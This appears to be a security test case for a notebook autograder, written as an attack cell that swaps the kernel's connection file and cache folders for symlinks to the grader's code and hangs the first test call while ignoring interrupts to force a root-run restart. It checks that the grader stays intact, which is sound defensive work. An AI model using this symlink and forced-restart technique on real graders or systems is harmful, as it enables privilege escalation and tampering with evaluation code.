"""Issue 26, hole 1: links its kernel's connection file to the grader's own code, then forces a restart (a hang that
ignores interrupts), hoping root writes that file through the link and hands it over (then imports what it writes)."""
EXPECT_STATUS = "graded"
EXPECT_FULL = None  # the call it hangs on purpose costs that test; what matters is that no file of the grader changed

# %% attack
import json as _json
import os as _os
import signal as _signal
import time as _time
import autograder as _ag
_target = _os.path.realpath(_ag.__file__)
_conn = _os.path.join(_os.getcwd(), ".kernel-connection.json")
_NAMES = (".kernel-connection.json", "matplotlib", "keras", "ipython", "jupyter-runtime")  # what is written in home
_marker = _os.path.join(_os.path.dirname(_json.load(open(_conn))["ip"]), "planted")  # its socket folder: kept
with open(_target) as _f:
    BREACHED = _os.stat(_target).st_uid == _os.getuid() or "signature_scheme" in _f.read()
if _os.path.exists(_marker):  # the kernel after the restart: its home must be new, nothing planted in it
    BREACHED = BREACHED or any(_os.path.islink(_os.path.join(_os.getcwd(), _n)) for _n in _NAMES)
else:
    open(_marker, "w").close()
    _os.unlink(_conn)
    _os.symlink(_target, _conn)
    for _n in _NAMES[1:]:  # and the kernel's caches: links to the grader's code
        try:
            _os.symlink(_os.path.dirname(_target), _os.path.join(_os.getcwd(), _n))
        except OSError:
            pass

    def _hang_once(info):  # the first test call never ends, and ignores the interrupt: the kernel is restarted
        if "__aekit_r__ = __aekit__." in (info.raw_cell or "") and not _os.path.exists(_marker + "-hung"):
            open(_marker + "-hung", "w").close()
            _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
            while True:
                _time.sleep(0.05)

    get_ipython().events.register("pre_run_cell", _hang_once)
